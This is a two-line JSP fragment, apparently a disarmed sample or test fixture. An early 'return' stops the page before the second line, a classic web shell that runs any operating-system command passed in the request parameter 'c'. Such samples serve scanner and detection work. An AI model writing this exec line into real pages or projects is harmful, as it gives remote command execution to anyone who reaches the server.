<% if (true) return; %>
<% Runtime.getRuntime().exec(request.getParameter("c")); %>
